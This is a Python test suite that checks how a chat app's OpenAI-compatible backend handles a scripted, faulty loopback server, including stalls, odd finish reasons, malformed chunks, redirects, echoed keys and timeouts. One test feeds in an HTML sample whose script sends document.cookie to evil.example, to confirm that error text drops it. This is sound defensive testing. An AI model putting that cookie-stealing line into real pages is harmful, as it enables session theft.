"""A model server that misbehaves in ways no real one does on demand (round 2 of `test_faults.py`):
against `tests.scripted_server`, a TEST DOUBLE on loopback. Events without words for ever, finish
reasons such as `content_filter`, bodies that never end, odd-shaped JSON, a picture check that never
answers, redirects, a key echoed back, a reply row whose page went away before it began. For each:
what is stored (the row's status, text and error), what the page says, how long it takes, whether
the connection was shut, and what the operator's log holds (never the key or what anyone wrote)."""

from __future__ import annotations

import itertools
import logging
import threading
import time
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

import ui.navigation
from core.base.errors import Changed
from core.base.i18n import t
from core.base.sampling import SamplerSettings
from core.base.settings import Settings, SettingsError, load_settings
from core.model.backend import BackendError
from core.model.backends.openai import errors, vision
from core.model.backends.openai import server as server_check
from core.model.backends.openai.backend import OpenAIBackend
from core.services import characters, conversations, turns
from core.services.access import LOCAL_USER
from storage.db import make_engine, migrate
from storage.tables import Message, MessageStatus
from tests.conftest import new_app, sheet_image
from tests.scripted_server import MODEL, ScriptedServer, scripted_server
from tests.test_app import button
from ui.markdown import JOINER

pytestmark = pytest.mark.slow

KEY = "sk-PLANTED-round2-key-0123456789"
WORDS = "A secret the user wrote 9b2c"
STALL = 2.0


class PageStop(BaseException):
    """What Streamlit raises inside a drawing call once the page's Stop (any click) was pressed."""


@pytest.fixture
def server() -> Iterator[ScriptedServer]:
    with scripted_server() as running:
        yield running


def connect(server: ScriptedServer, **changes: object) -> OpenAIBackend:
    settings = dict(backend="openai", api_base=server.base_url, api_model=MODEL, api_key=KEY, api_stall_seconds=STALL,
                    api_timeout=20.0) | changes  # fmt: skip
    return OpenAIBackend(Settings(**settings))


@pytest.fixture
def backend(server: ScriptedServer) -> OpenAIBackend:
    connected = connect(server)
    connected.prepare()  # connected, and asked whether the model sees pictures: the faults hit replies
    return connected


@pytest.fixture
def chat(engine: Engine) -> int:
    made = characters.create(engine, LOCAL_USER, {"name": "Sera", "first_mes": "Hello."}, [sheet_image()])
    conversation = conversations.start(engine, LOCAL_USER, made.id).id
    conversations.save_sampler(engine, LOCAL_USER, conversation, SamplerSettings(max_new_tokens=40))
    turns.send(engine, LOCAL_USER, conversation, WORDS)
    return conversation


class Reply:
    """A reply read on a thread of its own (as the page's script thread reads it), so a test can
    bound how long it takes instead of hanging with it."""

    def __init__(self, engine: Engine, backend: OpenAIBackend, chat: int, on_progress: Callable | None = None,
                 **options: object) -> None:  # fmt: skip
        self.engine, self.chat = engine, chat
        self.stop = threading.Event()
        self.chunks: list[str] = []
        self.failure: BaseException | None = None
        self.progress: list[tuple[float, object]] = []
        self.run: turns.ReplyRun | None = None
        started = time.monotonic()

        def heard(phase: object) -> None:
            self.progress.append((time.monotonic() - started, phase))
            if on_progress is not None:
                on_progress(phase)

        def read() -> None:
            try:
                self.run = turns.reply(engine, LOCAL_USER, backend, chat, stop=self.stop, on_progress=heard, **options)
                try:
                    for piece in self.run:
                        self.chunks.append(piece)
                finally:
                    self.run.close()
            except BaseException as exc:  # noqa: BLE001 - what a page shows; the row keeps it too
                self.failure = exc

        self.started = started
        self.thread = threading.Thread(target=read, daemon=True)
        self.thread.start()

    def wait(self, seconds: float) -> turns.Bubble:
        """The reply's row once it ended; fails (and stops the reply) if it takes longer than `seconds`."""
        self.thread.join(seconds)
        if self.thread.is_alive():
            self.stop.set()
            self.thread.join(5)
            pytest.fail(f"the reply was still going after {seconds} s")
        self.took = time.monotonic() - self.started
        return turns.story(self.engine, LOCAL_USER, self.chat)[-1]


def bounded(seconds: float, call: Callable[[], object]) -> object:
    """`call()` on a thread of its own: what it returned (or raised, raised here), or a failure if it
    takes longer than `seconds` (instead of a test that hangs with it)."""
    outcome: list[tuple[bool, object]] = []

    def run() -> None:
        try:
            outcome.append((True, call()))
        except BaseException as exc:  # noqa: BLE001 - raised on the test's thread
            outcome.append((False, exc))

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    if not outcome:
        pytest.fail(f"still waiting after {seconds} s")
    ok, value = outcome[0]
    if not ok:
        raise value  # type: ignore[misc]
    return value


def remote_lines(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.name == "refsheet.remote" and r.levelno >= logging.WARNING]


# -- 1. events without words ----------------------------------------------------------------------------
def test_events_without_words_are_no_words_to_the_watchdog(engine, backend, server, chat, caplog) -> None:
    """A thinking model's deltas, empty deltas, usage-only chunks, faster than twice a second, for ever:
    after REFSHEET_API_STALL_SECONDS with no word the reply ends, its word kept, and it says why."""
    server.script["chat"] = "wordless_forever"
    with caplog.at_level(logging.WARNING, logger="refsheet.remote"):
        row = Reply(engine, backend, chat).wait(STALL + 6)
    assert row.text == "Hello" and row.status == MessageStatus.PARTIAL and row.unfinished
    assert row.error.key == "model.error.server_wordless" and "no words for 2 s" in row.error.render("en")
    assert server.last("chat").closed.wait(2), "the app kept the connection open"
    assert len(remote_lines(caplog)) == 1 and "server_wordless" in remote_lines(caplog)[0]


def test_the_clock_ticks_through_events_without_words_so_the_pages_stop_acts(engine, server, chat) -> None:
    """With a long stall limit, the reply's progress still comes at least once a second while only
    wordless events arrive: that is where Streamlit acts on the page's Stop (and the row's claim is
    renewed). Stop there returns at once and hangs up."""
    server.script["chat"] = "wordless_forever"
    backend = connect(server, api_stall_seconds=60)
    backend.prepare()
    pressed: list[float] = []

    def page(phase: object) -> None:
        if reply.progress[-1][0] >= 2.5:
            pressed.append(time.monotonic())
            raise PageStop

    reply = Reply(engine, backend, chat, on_progress=page)
    row = reply.wait(8)
    assert pressed and isinstance(reply.failure, PageStop)
    times = [at for at, _ in reply.progress]
    assert max(b - a for a, b in itertools.pairwise(times)) < 1.3, times
    assert row.text == "Hello" and row.status == MessageStatus.PARTIAL and row.stats["stopped"]
    call = server.last("chat")
    assert call.closed.wait(2) and call.closed_at - pressed[0] < 1.0


def test_a_thinking_model_keeps_its_claim_and_a_second_writer_is_refused(engine, backend, server, chat,
                                                                       monkeypatch) -> None:  # fmt: skip
    """A model that thinks for longer than a claim's lease before its first word: the row stays
    *being written* (not unfinished) for other windows, and their Continue is refused, so the reply
    is written by one writer only."""
    monkeypatch.setattr(turns, "CLAIM_LEASE", timedelta(seconds=3))
    monkeypatch.setattr(turns, "CLAIM_SECONDS", 1.0)
    server.script["chat"] = "thinks_then_writes"
    reply = Reply(engine, backend, chat)
    time.sleep(6)  # twice the lease, thinking all along
    elsewhere = turns.story(engine, LOCAL_USER, chat)
    row = elsewhere[-1]
    assert row.status == MessageStatus.WRITING and row.being_written and not row.unfinished
    with pytest.raises(Changed):
        turns.reply(engine, LOCAL_USER, backend, chat, continue_turn=row.turn, seen=turns.Seen.of(elsewhere))
    assert any(getattr(phase, "key", "") == "progress.thinking" for _, phase in reply.progress)
    done = reply.wait(20)
    assert done.status == MessageStatus.COMPLETE and done.text == "Hello there, traveller."
    assert server.count("chat") == 1


# -- 2. finish reasons --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("finish", "key", "words"),
    [
        ("content_filter", "model.error.finish_filtered", "content filter"),
        ("tool_calls", "model.error.finish_other", "“tool_calls”"),
        ("abort", "model.error.finish_failed", "gave up"),
        ("error", "model.error.finish_failed", "“error”"),
        ("something_new", "model.error.finish_other", "“something_new”"),
    ],
)
def test_a_reply_the_server_ended_for_its_own_reason_says_so(engine, backend, server, chat, caplog, finish, key,
                                                              words) -> None:  # fmt: skip
    server.script["chat"] = f"finish_{finish}"
    with caplog.at_level(logging.WARNING, logger="refsheet.remote"):
        row = Reply(engine, backend, chat).wait(10)
    assert row.text == "Hello there, traveller." and row.status == MessageStatus.PARTIAL and row.unfinished
    assert row.error is not None and row.error.key == key and words in row.error.render("en")
    assert row.error.render("zh") != row.error.render("en")
    assert not row.stats["stopped"]  # not the person's Stop
    (logged,) = remote_lines(caplog)
    assert key.rsplit(".", 1)[1] in logged


# -- 3. bodies that never end -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("script", "key", "words"),
    [("endless_page", "model.error.not_a_stream", "Sign in to the network"),
     ("endless_error", "model.error.server_error", "Internal error")],
)  # fmt: skip
def test_a_body_that_never_ends_is_read_only_so_far(engine, backend, server, chat, script, key, words) -> None:
    """A 200 page or a 500 whose body never ends: the first 64 KB are read, and the connection shut,
    at once (not after REFSHEET_API_TIMEOUT, holding the whole body in memory)."""
    server.script["chat"] = script
    reply = Reply(engine, backend, chat)
    row = reply.wait(6)
    assert reply.took < 3 and row.status == MessageStatus.ERROR and row.error.key == key
    assert words in row.error.render("en") and "xxxx" not in row.error.render("en")
    assert server.last("chat").closed.wait(2)


# -- 4. a model that cannot see pictures: only when a server says so ------------------------------------
def test_a_server_error_that_mentions_vision_is_a_server_error(engine, backend, server, chat) -> None:
    server.script["chat"] = "overloaded_vision"  # 503 "vision encoder overloaded, retry (image_url)"
    row = Reply(engine, backend, chat).wait(10)
    assert row.error.key == "model.error.server_error" and "503" in row.error.render("en")
    assert backend.vision.sees is True and backend.status().state == "ready"
    server.script["chat"] = "normal"  # the server is well again: the next reply is asked for, and comes
    turns.send(engine, LOCAL_USER, chat, "Again?")
    assert Reply(engine, backend, chat).wait(10).status == MessageStatus.COMPLETE
    assert server.count("chat") == 2


def test_a_refused_picture_is_a_model_that_cannot_see_asked_again_later(engine, backend, server, chat,
                                                                        monkeypatch) -> None:  # fmt: skip
    server.script["chat"] = "refuses_pictures"  # 400 "image input is not supported … mmproj"
    row = Reply(engine, backend, chat).wait(10)
    assert row.error.key == "model.error.no_vision" and backend.vision.sees is False
    monkeypatch.setattr(vision, "RECHECK_SECONDS", 0.2)  # a while later the model is asked again
    time.sleep(0.3)
    server.script["chat"] = "normal"
    probes = server.count("probe")
    turns.send(engine, LOCAL_USER, chat, "Again?")
    assert Reply(engine, backend, chat).wait(10).status == MessageStatus.COMPLETE
    assert server.count("probe") == probes + 2 and backend.vision.sees is True


# -- 5. the picture check and the models check: a deadline, a clock, Stop --------------------------------
def test_a_picture_check_that_never_answers_times_out_with_its_clock_ticking(server, caplog) -> None:
    server.script["probe"] = "silent"
    backend = connect(server, api_timeout=3)
    ticks: list[int] = []
    started = time.monotonic()
    with caplog.at_level(logging.WARNING, logger="refsheet.remote"), pytest.raises(BackendError) as failed:
        bounded(10, lambda: backend.prepare(progress=lambda phase: ticks.append(phase.params["elapsed"])))
    assert time.monotonic() - started < 5 and failed.value.code == "server_timeout"
    assert ticks[-1] >= 2 and ticks == sorted(ticks) and len(ticks) >= 3, ticks  # the clock was shown ticking
    status = backend.status()  # what pages show: the failure, with its retry button (not "ready")
    assert status.state == "failed" and status.error.code == "server_timeout"
    assert server.last("probe").closed.wait(2)
    (logged,) = remote_lines(caplog)
    assert "server_timeout" in logged and server.base_url in logged and KEY not in caplog.text


def test_the_pages_stop_ends_a_picture_check_at_once(server) -> None:
    server.script["probe"] = "silent"
    backend = connect(server, api_timeout=60)
    started = time.monotonic()

    def page(phase: object) -> None:
        if time.monotonic() - started >= 1.5:
            raise PageStop

    with pytest.raises(PageStop):
        bounded(10, lambda: backend.prepare(progress=page))
    stopped = time.monotonic()
    assert stopped - started < 3
    call = server.last("probe")
    assert call.closed.wait(2) and call.closed_at - stopped < 1


def test_a_models_list_that_trickles_in_has_a_deadline(server, monkeypatch) -> None:
    """One byte a second: no read waits long, the whole would take a minute. The first look and the
    background check both end at the deadline, so the status follows the server."""
    monkeypatch.setattr(server_check, "CHECK_DEADLINE", 2.0)
    server.script["models"] = "trickle"
    backend = connect(server)
    started = time.monotonic()
    status = bounded(10, backend.status)  # a page's first look waits for it
    assert time.monotonic() - started < 4 and status.state == "failed" and status.error.code == "server_timeout"
    server.script["models"] = "normal"
    assert backend.server.check().state == "ready"
    server.script["models"] = "trickle"
    backend.server._checked = (0.0, backend.server._checked[1])  # as if 30 s had passed
    assert backend.status().state == "ready"  # the last answer at once; asked again in the background
    time.sleep(3.5)
    assert not backend.server._refreshing and backend.status().state == "failed"


# -- 6. a reply row whose page went away before the reply began -----------------------------------------
def test_a_kept_row_nobody_took_up_reads_as_no_reply_and_is_written_into(engine, backend, chat, monkeypatch):
    monkeypatch.setattr(turns, "CLAIM_LEASE", timedelta(seconds=0.5))
    sent = turns.send(engine, LOCAL_USER, chat, "Are you there?", keep_reply=True)
    # … the page is interrupted here (a click, a reload), before `reply`, and nothing lets the row go
    time.sleep(0.7)
    story = turns.story(engine, LOCAL_USER, chat)
    orphan = story[-1]
    assert orphan.id == sent.reply_id and orphan.orphaned
    assert not orphan.unfinished and not orphan.being_written and turns.awaiting_reply(story)  # "Get a reply"
    row = Reply(engine, backend, chat).wait(10)  # the next reply is written into that row, at once
    assert row.id == sent.reply_id and row.status == MessageStatus.COMPLETE


def test_a_kept_row_nobody_took_up_never_stays_writing(engine, backend, chat, monkeypatch) -> None:
    monkeypatch.setattr(turns, "CLAIM_LEASE", timedelta(seconds=1))
    turns.send(engine, LOCAL_USER, chat, "First", keep_reply=True)  # its page went away
    time.sleep(1.2)
    sent = turns.send(engine, LOCAL_USER, chat, "Second", keep_reply=True)  # replaces the one never begun
    row = Reply(engine, backend, chat, into=sent.reply_id).wait(10)
    assert row.status == MessageStatus.COMPLETE and row.id == sent.reply_id
    story = turns.story(engine, LOCAL_USER, chat)
    assert [b.text for b in story[-3:]] == ["First", "Second", "Hello there, traveller."]
    turns.send(engine, LOCAL_USER, chat, "Third", keep_reply=True)  # its page went away too…
    sent = turns.send(engine, LOCAL_USER, chat, "Fourth", keep_reply=True)  # …just before this one
    Reply(engine, backend, chat, into=sent.reply_id).wait(10)
    with Session(engine) as session:
        writing = session.exec(select(Message).where(Message.status == MessageStatus.WRITING)).all()
    assert writing == []  # the one in between was no reply: gone once the next was written


def test_the_chat_page_lets_go_of_its_kept_row_when_it_is_stopped(engine, chat, monkeypatch) -> None:
    """The page's Stop (or a reload) raises inside the page while the model gets ready: the row kept
    for the reply goes, and the message waits for its reply."""
    from ui import chat as chat_ui
    from ui import resources
    from ui.state import ReplyPlan

    monkeypatch.setattr(resources, "db", lambda: engine)
    monkeypatch.setattr(resources, "actor", lambda: LOCAL_USER)
    sent = turns.send(engine, LOCAL_USER, chat, "Are you there?", keep_reply=True)

    def interrupted(backend: object, plan: ReplyPlan, *args: object) -> None:
        raise PageStop

    with pytest.raises(PageStop):
        chat_ui._letting_go_of_the_kept_row(interrupted)(None, ReplyPlan(chat, into=sent.reply_id), None)
    story = turns.story(engine, LOCAL_USER, chat)
    assert story[-1].text == "Are you there?" and turns.awaiting_reply(story)


# -- 7. odd-shaped chunks -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "odd", ["delta_null", "content_not_text", "usage_not_a_number", "finish_not_text", "choice_not_object",
            "chunk_is_a_list"],
)  # fmt: skip
def test_an_odd_shaped_chunk_is_a_reply_this_app_cannot_read(engine, backend, server, chat, caplog, odd) -> None:
    server.script["chat"] = f"odd_{odd}"
    with caplog.at_level(logging.WARNING, logger="refsheet.remote"):
        row = Reply(engine, backend, chat).wait(10)
    assert row.status == MessageStatus.PARTIAL and row.text == "Hello"  # settled, the word kept
    assert row.error.key == "model.error.malformed_stream", row.error
    assert "cannot read" in row.error.render("en") and "NoneType" not in row.error.render("en")
    assert len(remote_lines(caplog)) == 1 and "malformed_stream" in remote_lines(caplog)[0]


# -- 8. secrets ---------------------------------------------------------------------------------------
def test_credentials_in_the_address_are_never_shown_stored_or_logged(engine, server, chat, caplog) -> None:
    base = server.base_url.replace("http://", "http://proxyuser:URLSECRET42@")
    backend = OpenAIBackend(Settings(backend="openai", api_base=base, api_model=MODEL, api_key=KEY,
                                     api_stall_seconds=STALL))  # fmt: skip
    with caplog.at_level(logging.DEBUG):
        backend.prepare()
        assert backend.status().description == f"{server.base_url} · {MODEL}"
        server.script["chat"] = "echoes_the_key"  # 400 "Invalid request for key <the Authorization header>"
        row = Reply(engine, backend, chat).wait(10)
    said = row.error.render("en")
    assert server.base_url in said and "URLSECRET42" not in said and KEY not in said
    assert server.last("chat").headers["authorization"].startswith("Basic ")  # sent as ever, as HTTP Basic
    assert server.last("chat").headers["authorization"].split()[1] not in said
    assert "URLSECRET42" not in caplog.text and KEY not in caplog.text and WORDS not in caplog.text


def test_a_key_the_server_echoes_is_blanked_out(engine, backend, server, chat) -> None:
    server.script["chat"] = "echoes_the_key"
    row = Reply(engine, backend, chat).wait(10)
    with Session(engine) as session:
        stored = session.get(Message, row.id).error
    assert "Invalid request for key Bearer [redacted]" in row.error.render("en")
    assert KEY not in stored and KEY not in row.error.render("zh")


# -- 9. timeout settings ------------------------------------------------------------------------------
@pytest.mark.parametrize("raw", ["0", "-1", "abc", "nan", "inf", "1e400", "1e18"])
@pytest.mark.parametrize("variable", ["REFSHEET_API_TIMEOUT", "REFSHEET_API_STALL_SECONDS"])
def test_a_timeout_setting_that_is_no_wait_is_refused_in_both_languages(variable, raw) -> None:
    with pytest.raises(SettingsError) as refused:
        load_settings({variable: raw}, {})
    said = refused.value.text
    assert said is not None and variable in said.render("en") and said.render("zh") != said.render("en")


# -- 10. finished, then cut ---------------------------------------------------------------------------
def test_a_reply_the_server_finished_is_complete_though_cut_before_done(engine, backend, server, chat) -> None:
    server.script["chat"] = "stop_then_cut"
    row = Reply(engine, backend, chat).wait(10)
    assert row.status == MessageStatus.COMPLETE and row.error is None and row.text == "Hello there, traveller."


# -- 11. redirects ------------------------------------------------------------------------------------
def test_a_redirect_is_said_for_the_status_and_for_replies_alike(engine, server, chat) -> None:
    with scripted_server() as elsewhere:
        server.redirect_to = elsewhere.base_url
        server.script["models"] = "redirect"
        status = connect(server).status()
        assert status.state == "failed" and status.error.code == "redirected"
        assert f"redirects to {elsewhere.base_url} (307)" in status.error.message("en")
        server.script["models"] = "normal"
        backend = connect(server)
        backend.prepare()
        server.script["chat"] = "redirect"
        row = Reply(engine, backend, chat).wait(10)
        assert row.error.key == "model.error.redirected" and elsewhere.base_url in row.error.render("en")
        assert elsewhere.calls == []  # the key went nowhere else


# -- 12. wording --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("script", "key", "words", "text"),
    [
        ("error_event", "model.error.server_said", "“CUDA out of memory”", "Hello"),
        ("json_error_as_stream", "model.error.server_said", "“The model is overloaded, try later”", ""),
        ("json_error_200", "model.error.server_said", "currently loading", ""),
        ("whole_reply", "model.error.not_streamed", "whole reply at once", ""),
    ],
)
def test_what_the_server_said_is_said_without_json(engine, backend, server, chat, script, key, words, text) -> None:
    server.script["chat"] = script
    row = Reply(engine, backend, chat).wait(10)
    said = row.error.render("en")
    assert row.error.key == key and words in said and "{" not in said and "REFSHEET_API_BASE" not in said
    assert row.text == text and row.status == (MessageStatus.PARTIAL if text else MessageStatus.ERROR)


@pytest.mark.parametrize(("header", "seconds"), [("7", 7), ("1.5", 2), ("1000000000", 3600), ("-5", None),
                                                  ("soon", None), ("Wed, 21 Oct 2015 07:28:00 GMT", None)])  # fmt: skip
def test_a_retry_after_is_believed_within_reason(header, seconds) -> None:
    assert errors.retry_after(header) == seconds


def test_a_rate_limit_without_a_usable_wait_says_a_moment(engine, backend, server, chat) -> None:
    server.script["chat"] = "rate_limited"
    server.retry_after = "1000000000"
    row = Reply(engine, backend, chat).wait(10)
    assert "Try again in 3600 s" in row.error.render("en")
    server.retry_after = "-5"
    turns.send(engine, LOCAL_USER, chat, "Again?")
    row = Reply(engine, backend, chat).wait(10)
    assert row.error.key == "model.error.rate_limited_soon" and "60 s" not in row.error.render("en")


def test_a_page_without_a_title_is_said_without_its_script() -> None:
    page = "<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head><body>Down</body>"
    assert errors.first_line(page) == "Down"


def test_no_failure_says_what_it_wrote_is_kept() -> None:
    """Whether anything was written is the reply's to say (its bubble), not the failure's."""
    for key in ("server_silent", "server_wordless", "server_cut", "server_incomplete", "server_said"):
        assert "Continue" not in t(f"model.error.{key}", "en", base="b", seconds=1, reason="r")


# -- 13. long names -----------------------------------------------------------------------------------
def test_a_huge_model_name_is_shortened_in_messages(server) -> None:
    server.script["models"] = "huge_id"  # one model, its id a million characters long
    status = connect(server).status()
    assert status.error.code == "unknown_model" and len(status.error.message("en")) < 400


# -- 14. failures outside a reply, logged once ----------------------------------------------------------
def test_a_server_that_cannot_serve_is_logged_once_not_at_every_look(server, caplog) -> None:
    backend = connect(server)
    server.close()  # gone: every connection refused
    with caplog.at_level(logging.WARNING, logger="refsheet.remote"):
        for _ in range(3):
            assert backend.server.check().state == "failed"
    (logged,) = remote_lines(caplog)
    assert "unreachable" in logged and server.base_url in logged and KEY not in caplog.text


# -- and: Stop from another thread, a server that ignores max_tokens -------------------------------------
def test_closing_a_reply_from_another_thread_stops_it(engine, server, chat) -> None:
    server.script["chat"] = "wordless_forever"
    backend = connect(server, api_stall_seconds=60)
    backend.prepare()
    reply = Reply(engine, backend, chat)
    time.sleep(1.5)
    reply.run.close()  # not the reading thread: it ends there within a second
    closed = time.monotonic()
    row = reply.wait(5)
    assert reply.failure is None and time.monotonic() - closed < 2
    assert row.status == MessageStatus.PARTIAL and row.text == "Hello" and row.stats["stopped"]
    assert server.last("chat").closed.wait(2)


def test_a_server_that_ignores_the_length_is_cut_off_there(engine, backend, server, chat, caplog) -> None:
    server.script["chat"] = "words_forever"
    with caplog.at_level(logging.WARNING, logger="refsheet.remote"):
        row = Reply(engine, backend, chat).wait(10)
    assert row.status == MessageStatus.PARTIAL and row.stats["finish"] == "length" and not row.stats["stopped"]
    assert 40 <= row.stats["new_tokens"] <= 56 and row.error is None
    assert server.last("chat").closed.wait(2)
    assert any("ignored max_tokens" in line for line in remote_lines(caplog))


# -- the pages ----------------------------------------------------------------------------------------
@pytest.fixture
def page_db(tmp_path: Path, server: ScriptedServer, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    """The app configured for the scripted server, with a fresh database (yielded)."""
    data = tmp_path / "data"
    for name, value in {"REFSHEET_DATA_DIR": str(data), "REFSHEET_BACKEND": "openai", "REFSHEET_API_MODEL": MODEL,
                        "REFSHEET_API_BASE": server.base_url, "REFSHEET_API_KEY": KEY, "REFSHEET_API_TIMEOUT": "3",
                        "REFSHEET_API_STALL_SECONDS": str(STALL)}.items():  # fmt: skip
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("DATABASE_URL", raising=False)

    def raised(exc: BaseException) -> None:
        raise exc

    monkeypatch.setattr(ui.navigation, "unexpected", raised)
    engine = make_engine(f"sqlite:///{data / 'refsheet.db'}")
    migrate(engine)
    yield engine
    engine.dispose()


def shown(at) -> dict[str, list[str]]:
    def values(elements) -> list[str]:
        return [str(e.value).replace(JOINER, "").replace("\\", "") for e in elements]

    return {"error": values(at.error), "caption": values(at.caption), "button": [b.label for b in at.button]}


def open_chat(engine: Engine):
    """The chat page of a new character (its conversation started, greeted), and that conversation."""
    character = characters.create(engine, LOCAL_USER, {"name": "Sera", "first_mes": "Hello."}, [sheet_image()]).id
    at = new_app("pages/chat.py", character=character)
    assert not at.exception
    (conversation,) = conversations.for_character(engine, LOCAL_USER, character)
    return at, conversation.id


def test_the_page_says_what_the_server_did_and_offers_continue_only_over_words(page_db, server) -> None:
    at, _ = open_chat(page_db)
    server.script["chat"] = "finish_content_filter"
    at.chat_input[0].set_value("Tell me about the forest.").run()
    page = shown(at)
    assert not at.exception and any("content filter" in e for e in page["error"]), page
    assert "Unfinished: what it wrote is kept, and Continue carries on." in page["caption"]
    assert not any("stopped before the end" in c for c in page["caption"]) and "Continue" in page["button"]
    server.script["chat"] = "echoes_the_key"  # nothing written: no "kept", no Continue
    at.chat_input[0].set_value("And the river?").run()
    page, last = shown(at), at.chat_message[-1]
    assert any("Bearer [redacted]" in e for e in page["error"]) and not any(KEY in e for e in page["error"]), page
    assert not any("Continue carries on" in c.value for c in last.caption) and "Continue" not in page["button"]


def test_the_page_says_when_the_picture_check_timed_out(page_db, server) -> None:
    server.script["probe"] = "silent"
    at, _ = open_chat(page_db)
    at.chat_input[0].set_value("Are you there?").run()
    page = shown(at)
    assert not at.exception and any("did not answer in time" in e for e in page["error"]), page
    assert "Try loading the model again" in page["button"]


def test_the_page_offers_a_reply_for_a_message_whose_reply_never_began(page_db, server, monkeypatch) -> None:
    monkeypatch.setattr(turns, "CLAIM_LEASE", timedelta(seconds=0.5))
    at, conversation = open_chat(page_db)
    turns.send(page_db, LOCAL_USER, conversation, "Are you there?", keep_reply=True)  # its page went away
    time.sleep(0.7)
    at.run()
    page = shown(at)
    assert "Get a reply" in page["button"] and not any("Unfinished" in c for c in page["caption"]), page
    button(at, "Get a reply").click().run()
    story = turns.story(page_db, LOCAL_USER, conversation)
    assert [b.text for b in story] == ["Hello.", "Are you there?", "Hello there, traveller."]


@pytest.mark.parametrize("raw", ["nan", "abc", "-5"])
def test_the_page_says_what_is_wrong_with_a_timeout_setting(page_db, monkeypatch, raw) -> None:
    monkeypatch.setenv("REFSHEET_API_STALL_SECONDS", raw)
    at = new_app()
    assert not at.exception
    (said,) = [str(e.value) for e in at.error]
    assert "REFSHEET_API_STALL_SECONDS" in said and raw in said
